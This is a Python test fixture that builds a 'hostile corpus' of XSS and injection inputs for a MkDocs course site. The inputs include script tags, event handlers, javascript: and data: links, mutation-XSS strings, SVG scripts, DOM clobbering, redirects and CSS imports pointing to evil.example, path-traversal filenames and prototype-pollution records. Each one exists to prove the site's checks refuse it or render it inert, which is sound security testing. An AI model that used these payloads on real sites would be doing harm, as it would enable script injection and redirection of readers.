"""The hostile corpus (issue 13): what a contributor could put in a pull request to run
script on the site, reach another host, navigate the reader away, or read the build
machine. Each input is either refused by `check` with its `path:line`, or built (by MkDocs
alone, as `mkdocs serve` would show it) and proven inert in Chromium; most are both.

`project(dest)` writes every input into a copy of the fixture course (tests/fixtures/course)
committed to a git repository, as a pull request would bring them.
"""

from __future__ import annotations

import base64
import json
import subprocess
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from tests.conftest import copy_fixture

# What every payload tries to do when it runs: mark the page and open a dialog.
RUN = "window.top.tkPwned=1;alert(1)"
EVIL = "https://evil.example"
# An HTML page that claims to be a PNG.
FAKE_PNG = f"<html><body><script>{RUN}</script>not a picture</body></html>".encode()
LESSON_FM = """---
title: {title}
objectives:
  - {objective}
duration: 10
level: beginner
keypoints:
  - {keypoint}
updated: 2026-11-29
---
"""
PAGE_FM = "---\ntitle: {title}\n---\n\n"


@dataclass(frozen=True)
class Input:
    id: str
    kind: str  # the class of input (Markdown, raw HTML, front matter, notebook output…)
    what: str  # what it tries, in a few words
    path: str  # the file it is written into (relative to the project)
    needle: str | None = None  # `check` must report `path` at the line holding this text
    pages: tuple[str, ...] = ()  # built URLs (site-relative) to prove it inert on
    absent: tuple[str, ...] = ()  # built files that must not exist
    extra: dict = field(default_factory=dict, compare=False, hash=False)

    @property
    def refused(self) -> bool:
        return self.needle is not None


def _page(id: str, kind: str, what: str, body: str, needle: str | None, **kw) -> Input:
    """A plain page `docs/h/<id>.ar.md` holding `body`."""
    text = PAGE_FM.format(title="Hostile page") + body + "\n"
    return Input(
        id, kind, what, f"docs/h/{id}.ar.md", needle, (f"h/{id}/",), extra={"text": text}, **kw
    )


MARKDOWN = [
    _page(
        "md-script",
        "raw HTML",
        "a script element",
        f"Text.\n\n<script>{RUN}</script>\n",
        "<script>",
    ),
    _page(
        "md-img-onerror-split",
        "raw HTML, multi-line",
        "an event handler on the third line of a tag",
        f'<img\nsrc="x.png"\nonerror="{RUN}">\n',
        None,
    ),
    _page(
        "md-base",
        "raw HTML",
        "<base href> moving every relative URL to another host",
        f'<base href="{EVIL}/">\n\n[a link](../../)\n',
        None,
    ),
    _page(
        "md-meta-refresh",
        "raw HTML",
        "a meta refresh to another host",
        f'<meta http-equiv="refresh" content="0;url={EVIL}/">\n',
        None,
    ),
    _page(
        "md-entity-js-link",
        "raw HTML, entity-encoded",
        "javascript: written with character references in a raw <a>",
        '<a href="&#106;&#97;vascript&#x3A;window.top.tkPwned=1">click</a>\n',
        None,
    ),
    _page(
        "md-tab-js-link",
        "raw HTML, multi-line, entity-encoded",
        "a raw <a> over two lines with a tab inside javascript:",
        '<a\nhref="java&#x09;script:window.top.tkPwned=1">click</a>\n',
        None,
    ),
    _page(
        "md-object",
        "raw HTML",
        "<object> from another host",
        f'<object data="{EVIL}/x.swf"></object>\n',
        None,
    ),
    _page(
        "md-embed", "raw HTML", "<embed> from another host", f'<embed src="{EVIL}/x.swf">\n', None
    ),
    _page(
        "md-iframe-srcdoc",
        "raw HTML",
        "an iframe whose srcdoc runs script",
        f'<iframe srcdoc="<script>{RUN}</script>"></iframe>\n',
        "<iframe",
    ),
    _page(
        "md-form",
        "raw HTML",
        "a form posting to another host",
        f'<form action="{EVIL}/"><input name="q"><button>go</button></form>\n',
        "<form",
    ),
    _page(
        "md-img-onerror",
        "raw HTML",
        "an onerror handler",
        f'<img src="x.png" onerror="{RUN}">\n',
        "onerror",
    ),
    _page(
        "md-js-link",
        "Markdown",
        "a javascript: link",
        "[click](javascript:alert(1))\n",
        "javascript:",
    ),
    _page(
        "md-data-link",
        "Markdown",
        "a data: URL holding an HTML page",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n",
        None,
    ),
    _page(
        "md-image-external",
        "Markdown",
        "an image from another host (tracking pixel)",
        f"![pixel]({EVIL}/pixel.png)\n",
        None,
    ),
    _page(
        "attr-list-handler",
        "attribute list",
        "an event handler in an attribute list written without a space",
        f"A paragraph.\n{{:onclick='{RUN}' #p1}}\n\n## Heading {{:onmouseover='{RUN}'}}\n",
        None,
    ),
    _page(
        "attr-list-style",
        "attribute list, CSS",
        "a style attribute with a remote url() from an attribute list",
        f'A paragraph.\n{{: style="background:url({EVIL}/a.png)" }}\n',
        None,
    ),
    _page(
        "attr-list-clobber",
        "attribute list",
        "an element with the id of Material's config (DOM clobbering)",
        f'{{"base": "{EVIL}/"}}\n{{: #__config }}\n\n<div id="tamkeenPagefind">x</div>\n',
        None,
    ),
    _page(
        "css-style-single-quote",
        "CSS in raw HTML",
        "a single-quoted style attribute with url()",
        f"<p style='background-image:url(\"{EVIL}/q.png\")'>x</p>\n",
        None,
    ),
    _page(
        "css-image-set",
        "CSS in raw HTML",
        "image-set() in a style attribute",
        f"<p style=\"background:image-set('{EVIL}/s.png' 1x)\">x</p>\n",
        None,
    ),
    _page(
        "css-style-element",
        "CSS in raw HTML",
        "a <style> element with @import and a page-hiding rule",
        f"<style>@import url({EVIL}/c.css); body {{ display: none }}</style>\n\nText.\n",
        None,
    ),
    _page(
        "md-link-stylesheet",
        "raw HTML",
        "a stylesheet link in the body",
        f'<link rel="stylesheet" href="{EVIL}/x.css">\n',
        None,
    ),
    _page(
        "md-video-poster",
        "raw HTML",
        "a video poster from another host",
        f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4" autoplay></video>\n',
        None,
    ),
    _page(
        "md-mermaid",
        "raw HTML",
        "a Mermaid block (Material would load Mermaid from a CDN)",
        '<div class="mermaid">graph TD; A-->B</div>\n',
        None,
    ),
    _page(
        "md-noscript-mxss",
        "raw HTML, mutation XSS",
        "a noscript parsing differential",
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>\n',
        None,
    ),
    _page(
        "md-math-mxss",
        "raw HTML, mutation XSS",
        "math/style namespace confusion",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>\n",
        None,
    ),
    _page(
        "md-svg-inline",
        "SVG in raw HTML",
        "inline SVG with onload, animate to javascript:, use from another host",
        f'<svg onload="{RUN}"><animate attributeName="href" values="javascript:alert(1)"/>'
        f'<use href="{EVIL}/s.svg#a"/></svg>\n',
        None,
    ),
    _page(
        "md-details-ontoggle",
        "raw HTML",
        "details that runs script when it opens itself",
        f'<details open ontoggle="{RUN}"><summary>x</summary>y</details>\n',
        "ontoggle",
    ),
    _page(
        "h1-title-breakout",
        "Markdown heading (page title)",
        "an H1 (the page title) that closes <title> through entities",
        f"# &lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;\n\nText.\n",
        None,
    ),
]

# Front matter and module metadata: shown in nav, index pages, pager, decks, trainer pages.
SHARED_PAGES = (
    "",
    "courses/demo/",
    "courses/demo/01-basics/",
    "courses/demo/02-more/",
    "courses/demo/01-basics/trainer/",
    "courses/demo/02-more/trainer/",
    "courses/demo/01-basics/slides/",
    "courses/demo/02-more/slides/",
    "progress/",
    "translation-status/",
    "glossary/",
    "fr/",
    "fr/courses/demo/",
    "fr/glossary/",
    "fr/progress/",
)
LESSON = "docs/courses/demo/01-basics/04-hostile.ar.md"
FRONT_MATTER = [
    Input(
        "fm-title-script",
        "front matter",
        "a script in a lesson title",
        LESSON,
        "title: ",
        (
            "courses/demo/01-basics/04-hostile/",
            "courses/demo/01-basics/04-hostile/slides/",
            *SHARED_PAGES,
        ),
    ),
    Input(
        "fm-objective-link",
        "front matter",
        "a javascript: link in an objective",
        LESSON,
        "[x](javascript",
    ),
    Input("fm-keypoint-iframe", "front matter", "an iframe in a key point", LESSON, "<iframe"),
    Input(
        "fm-description-breakout",
        "front matter",
        "a description that leaves the meta description attribute",
        "docs/h/fm-description.ar.md",
        "description:",
        ("h/fm-description/",),
    ),
    Input(
        "fm-multiline-title",
        "front matter",
        "a title with line breaks that opens an admonition and raw HTML",
        "docs/courses/demo/02-more/02-multiline.ar.md",
        "title: ",
        ("courses/demo/02-more/02-multiline/", "courses/demo/02-more/"),
    ),
    Input(
        "fm-module-title",
        "front matter",
        "an image with a handler in a module title (nav section, trainer page)",
        "docs/courses/demo/02-more/index.ar.md",
        "title: ",
        SHARED_PAGES,
    ),
    Input(
        "fm-materials",
        "front matter",
        "markup in a module's trainer materials",
        "docs/courses/demo/01-basics/index.ar.md",
        "  - <img",
        ("courses/demo/01-basics/trainer/",),
    ),
]
GLOSSARY = [
    Input(
        "glossary-term-html",
        "glossary.yml",
        "an image with a handler as a term",
        "docs/glossary.yml",
        "onerror",
        ("glossary/", "fr/glossary/", "courses/demo/01-basics/01-first/"),
    ),
    Input(
        "glossary-definition-link",
        "glossary.yml",
        "a javascript: link in a definition",
        "docs/glossary.yml",
        "javascript:",
    ),
    Input(
        "glossary-id-attributes",
        "glossary.yml",
        "an id that writes attributes into the glossary heading",
        "docs/glossary.yml",
        "- id: x onclick",
    ),
]
NB = "notebooks/demo/01-basics/05-nb.ar.ipynb"
NB_PAGES = ("courses/demo/01-basics/05-nb/",)
NOTEBOOK = [
    Input(
        "nb-markdown-script",
        "notebook Markdown cell",
        "script and a handler in a Markdown cell",
        NB,
        "tk-nb-md-script",
        NB_PAGES,
    ),
    Input(
        "nb-output-html",
        "notebook output",
        "script, handler and iframe in a text/html output",
        NB,
        "tk-nb-html-out",
        NB_PAGES,
    ),
    Input(
        "nb-output-js",
        "notebook output",
        "an application/javascript output",
        NB,
        '"application/javascript"',
        NB_PAGES,
    ),
    Input(
        "nb-output-svg",
        "notebook output, SVG",
        "an SVG output with script, animation, style @import",
        NB,
        "tk-nb-svg-out",
        NB_PAGES + ("courses/demo/01-basics/05-nb.ar.files/output_3_2.svg",),
    ),
    Input(
        "nb-output-png-bad-base64",
        "notebook output",
        "image data that is not base64 (nbconvert's own injection notebook)",
        NB,
        "not base64 at all",
        NB_PAGES,
    ),
    Input(
        "nb-output-png-not-png",
        "notebook output",
        "valid base64 of an HTML page declared as image/png",
        NB,
        base64.b64encode(FAKE_PNG).decode()[:24],
        NB_PAGES,
    ),
    Input(
        "nb-output-filename",
        "notebook output",
        "output metadata naming the file (path traversal, another host)",
        NB,
        None,
        NB_PAGES,
        absent=(
            "evil.html",
            "courses/demo/evil.html",
            "courses/demo/01-basics/05-nb.ar.files/evil.html",
        ),
    ),
    Input(
        "nb-output-alt",
        "notebook output metadata",
        "an alt text that leaves the image's alt attribute",
        NB,
        '"alt"',
        NB_PAGES,
    ),
    Input(
        "nb-output-markdown",
        "notebook output",
        "raw HTML in a text/markdown output",
        NB,
        None,
        NB_PAGES,
    ),
    Input(
        "nb-attachment-html",
        "notebook attachment",
        "an .html attachment",
        NB,
        '"evil.html"',
        NB_PAGES,
        absent=("courses/demo/01-basics/05-nb.ar.files/evil.html",),
    ),
    Input(
        "nb-attachment-svg",
        "notebook attachment, SVG",
        "an SVG attachment with script",
        NB,
        None,
        NB_PAGES + ("courses/demo/01-basics/05-nb.ar.files/attachment_0_0.svg",),
    ),
    Input(
        "nb-metadata-title",
        "notebook metadata",
        "a handler in metadata.tamkeen.title",
        NB,
        '"title"',
        NB_PAGES + ("courses/demo/01-basics/",),
    ),
]
FILES = [
    Input(
        "docs-svg-script",
        "SVG file in docs/",
        "an SVG with script, onload and an xml-stylesheet",
        "docs/h/evil.svg",
        "<script",
        ("h/evil.svg",),
    ),
    Input(
        "docs-html-file",
        "file in docs/",
        "an HTML page on the site's origin",
        "docs/h/evil.html",
        "<",
        absent=("h/evil.html",),
    ),
    Input(
        "docs-js-file",
        "file in docs/",
        "a JavaScript file",
        "docs/h/evil.js",
        "window",
        absent=("h/evil.js",),
    ),
    Input(
        "docs-css-file",
        "CSS file in docs/",
        "a stylesheet with a remote @import",
        "docs/h/evil.css",
        "@import",
        absent=("h/evil.css",),
    ),
    Input(
        "forged-header",
        "forged generated header",
        "a committed page that claims to be generated from a notebook (checks off)",
        "docs/courses/demo/02-more/03-forged.ar.md",
        "# generated from",
        ("courses/demo/02-more/03-forged/",),
    ),
]
CORPUS = MARKDOWN + FRONT_MATTER + GLOSSARY + NOTEBOOK + FILES

# Progress codes and files: checked on the progress page (tests/test_hostile_corpus.py).
PROGRESS = [
    ("progress-proto", "a `__proto__` lesson key (prototype pollution)"),
    ("progress-constructor", "a `constructor.prototype` record"),
    ("progress-unknown-field", "a record with an unknown field"),
    ("progress-unknown-key", "a lesson the site does not have"),
    ("progress-bad-types", "scores and answers of the wrong types"),
    ("progress-long-name", "a 10,000-character name"),
    ("progress-huge-code", "a code over the size cap"),
    ("progress-big-file", "a progress file over the size cap"),
]


def _lesson_text() -> str:
    front = LESSON_FM.format(
        title=f'"<script>{RUN}</script>"',
        objective='"[x](javascript:alert(1))"',
        keypoint=f'"<iframe src={EVIL}/></iframe>"',
    )
    return front + (
        "\n## Section\n\nBody.\n\n!!! exercise\n\n"
        f'    Do it. <img src=x.png onerror="{RUN}"> <object data="{EVIL}/x"></object>\n'
    )


def _notebook(lang: str) -> str:
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><!-- tk-nb-svg-out -->'
        f"<style>@import url({EVIL}/s.css);</style><script>{RUN}</script>"
        '<animate attributeName="href" values="javascript:alert(1)"/>'
        '<rect width="10" height="10" fill="teal"/></svg>'
    )
    html = (
        f'<p class="tk-nb-html-out">x</p><script>{RUN}</script><img src=x onerror="{RUN}">'
        f'<iframe src="{EVIL}/"></iframe>'
    )
    v4 = nbformat.v4
    markdown = v4.new_markdown_cell(
        "# Notebook\n\n"
        f'<!-- tk-nb-md-script --><script>{RUN}</script><img src=x onerror="{RUN}">\n\n'
        "![evil](attachment:evil.html) ![svg](attachment:a.svg)"
    )
    markdown["attachments"] = {
        "evil.html": {"text/html": base64.b64encode(f"<script>{RUN}</script>".encode()).decode()},
        "a.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
    }
    outputs = [
        v4.new_output("display_data", data={"text/html": html, "text/plain": "x"}),
        v4.new_output(
            "display_data", data={"application/javascript": f"{RUN}", "text/plain": "js"}
        ),
        v4.new_output("display_data", data={"image/svg+xml": svg, "text/plain": "svg"}),
        v4.new_output(
            "display_data", data={"image/png": "not base64 at all !!", "text/plain": "png"}
        ),
        v4.new_output(
            "display_data",
            data={"image/png": base64.b64encode(FAKE_PNG).decode()},
        ),
        v4.new_output(
            "display_data",
            data={"image/png": base64.b64encode(_PNG).decode()},
            metadata={
                "filenames": {"image/png": "../../../evil.html"},
                "filename": "evil.html",
                "alt": f'chart"><img src=x onerror="{RUN}">',
            },
        ),
        v4.new_output(
            "display_data",
            data={"text/markdown": f'<img src=x onerror="{RUN}"> [x](javascript:alert(1))'},
        ),
    ]
    cells = [
        markdown,
        v4.new_markdown_cell("Text."),
        v4.new_markdown_cell("More."),
        v4.new_code_cell("print(1)", outputs=outputs),
    ]
    nb = v4.new_notebook(cells=cells)
    nb.metadata["tamkeen"] = {
        "title": f'<img src=x onerror="{RUN}">',
        "objectives": ["Read."],
        "duration": 10,
        "level": "beginner",
        "keypoints": ["Read."],
        "updated": "2026-11-29",
    }
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"cell-{lang}-{i}"
    return nbformat.writes(nb) + "\n"


# A 1x1 PNG.
_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

_SVG_FILE = f"""<?xml-stylesheet href="{EVIL}/x.css"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="{RUN}">
<script>{RUN}</script>
<rect width="10" height="10" fill="teal"/>
</svg>
"""


def project(dest: Path) -> Path:
    """The fixture course with every input of the corpus, committed to git."""
    root = copy_fixture("course", dest)
    files: dict[str, str] = {}
    for item in MARKDOWN:
        files[item.path] = item.extra["text"]
    files["docs/h/fm-description.ar.md"] = (
        "---\ntitle: Description\n"
        f"description: '\"><script>{RUN}</script>"
        f'<meta http-equiv=refresh content="0;url={EVIL}">\'\n'
        "---\n\nText.\n"
    )
    files[LESSON] = _lesson_text()
    files[LESSON.replace(".ar.", ".fr.")] = _lesson_text()
    files["docs/courses/demo/02-more/02-multiline.ar.md"] = LESSON_FM.format(
        title=f'"Line\\n\\n!!! note\\n    <script>{RUN}</script>"',
        objective="Read.",
        keypoint="Read.",
    )
    index = root / "docs/courses/demo/02-more/index.ar.md"
    files["docs/courses/demo/02-more/index.ar.md"] = index.read_text(encoding="utf-8").replace(
        "title: الوحدة 02-more", f"title: '<img src=x onerror=\"{RUN}\">'"
    )
    index = root / "docs/courses/demo/01-basics/index.ar.md"
    files["docs/courses/demo/01-basics/index.ar.md"] = index.read_text(encoding="utf-8").replace(
        "materials:\n", f'materials:\n  - <img src=x onerror="{RUN}">\n', 1
    )
    glossary = (root / "docs/glossary.yml").read_text(encoding="utf-8")
    files["docs/glossary.yml"] = glossary + (
        f"- id: evil\n  ar: {{term: '<img src=x onerror=\"{RUN}\">', definition: شرح.}}\n"
        "  fr: {term: mal, definition: '[click](javascript:alert(1))'}\n"
        "- id: x onclick=alert(1)\n  ar: {term: كلمة, definition: شرح.}\n"
        "  fr: {term: mot, definition: sens.}\n"
    )
    files[NB] = _notebook("ar")
    files[NB.replace(".ar.", ".fr.")] = _notebook("fr")
    files["docs/h/evil.svg"] = _SVG_FILE
    files["docs/h/evil.html"] = f"<!doctype html><script>{RUN}</script>\n"
    files["docs/h/evil.js"] = "window.top.tkPwned = 1;\n"
    files["docs/h/evil.css"] = f"@import url({EVIL}/x.css);\n"
    files["docs/courses/demo/02-more/03-forged.ar.md"] = (
        "---\n# generated from notebooks/demo/02-more/03-forged.ar.ipynb (hash 0123456789abcdef): "
        "edit the notebook, not this file\n"
        + LESSON_FM.format(title="Forged", objective="Read.", keypoint="Read.").removeprefix(
            "---\n"
        )
        + f"\n## Part\n\n<script>{RUN}</script>\n"
    )
    for rel, text in files.items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-C", str(root)]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "a pull request"], check=True)
    return root


def line_of(path: Path, needle: str) -> int:
    """The first line of `path` holding `needle`."""
    for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
        if needle in line:
            return number
    raise AssertionError(f"{needle!r} not in {path}")


def progress_code(payload: dict | bytes, compressed: bool = False) -> str:
    """A TK1 progress code for `payload`, with a valid checksum (as tamkeen.js writes); with
    `compressed`, a TK2 code (raw deflate, as progress.js writes where it can)."""
    raw = (
        payload if isinstance(payload, bytes) else json.dumps(payload, ensure_ascii=False).encode()
    )
    if compressed:
        z = zlib.compressobj(9, zlib.DEFLATED, -15)
        raw = z.compress(raw) + z.flush()
    b64 = base64.urlsafe_b64encode(raw).decode("ascii").rstrip("=")
    h = 0x811C9DC5
    for ch in b64:
        h = ((h ^ ord(ch)) * 16777619) & 0xFFFFFFFF
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    out = ""
    while True:
        h, r = divmod(h, 36)
        out = digits[r] + out
        if h == 0:
            break
    return f"TK{2 if compressed else 1}-{b64}-{out}"
